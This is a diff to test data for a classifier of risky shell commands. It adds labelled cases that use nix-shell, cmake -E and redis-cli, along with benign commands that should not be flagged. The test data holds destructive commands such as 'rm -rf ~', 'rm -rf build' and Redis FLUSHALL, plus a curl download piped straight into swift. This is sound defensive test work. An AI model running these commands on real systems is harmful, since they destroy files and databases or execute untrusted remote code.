@@ -237,6 +237,24 @@ OTHER_LANGUAGES = [
     ("gforth -e 's\" rm -rf ~\" system bye'", {"dynamic:code"}),
     ("curl -s https://x.example/x.swift | swift -", {"dynamic:code"}),
     ("swift -e 'import Foundation'", {"dynamic:code"}),
+    # programs that run a shell command string of their own
+    ("nix-shell --run 'rm -rf build'", {"run:rm -rf build", "destroy:files"}),
+    ("nix-shell -p hello --command 'rm -rf build'", {"run:rm -rf build", "destroy:files"}),
+    ("nix-shell shell.nix --run='rm -rf build'", {"run:rm -rf build", "destroy:files"}),
+    # cmake -E runs the command it names, as that command
+    ("cmake -E rm -rf build", {"run:rm -rf build", "destroy:files"}),
+    ("cmake -E remove_directory build", {"run:rm -rf build", "destroy:files"}),
+    ("cmake -E env FOO=1 rm -rf build", {"run:rm -rf build", "destroy:files"}),
+    ("cmake -E chdir sub rm -rf build", {"run:rm -rf build", "destroy:files"}),
+    ("cmake -E time rm -rf build", {"run:rm -rf build", "destroy:files"}),
+    # Lua run on a Redis server, and its commands in any case
+    ("redis-cli EVAL \"redis.call('FLUSHALL')\" 0", {"destroy:database"}),
+    ("redis-cli -n 2 evalsha abc123 0", {"destroy:database"}),
+    ("redis-cli --eval purge.lua", {"destroy:database"}),
+    ("redis-cli FlushAll", {"destroy:database"}),
+    ("redis-cli -h cache.internal -p 6380 flushdb async", {"destroy:database"}),
+    ("redis-cli del session:1 session:2", {"destroy:database"}),
+    ("redis-cli FUNCTION FLUSH", {"destroy:database"}),
 ]  # fmt: skip
 
 
@@ -274,6 +292,17 @@ OTHER_QUIET = [
     "yash -c 'ls -la'",
     "python3 -S -c 'print(1)'",
     "perl -ne 'print if /x/' app.log",
+    "nix-shell --run 'make test'",
+    "nix-shell -p python3 --run 'python3 --version'",
+    "cmake -E make_directory build",
+    "cmake -E copy a.txt build/",
+    "cmake -E echo hello",
+    "cmake -S . -B build",
+    "cmake --build build -j4",
+    "swift build",
+    "swift test --filter ParserTests",
+    "redis-cli GET key",
+    "redis-cli -n 1 KEYS 'user:*'",
 ]
 
 
